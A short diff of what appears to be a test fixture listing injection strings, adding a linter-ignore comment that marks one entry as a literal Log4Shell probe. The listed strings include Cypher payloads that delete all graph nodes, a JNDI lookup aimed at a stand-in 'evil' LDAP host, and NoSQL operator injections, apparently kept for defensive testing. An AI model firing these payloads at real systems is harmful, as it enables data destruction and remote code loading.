@@ -206,6 +206,7 @@ export const INJECTIONS: readonly string[] = [
   "' }) MATCH (n) DETACH DELETE n //",
   '"}) MATCH (n) DETACH DELETE n RETURN 1 //',
   'x` DETACH DELETE n //',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
   '${jndi:ldap://evil/a}',
   '$where: 1',
   '{"$gt": ""}',
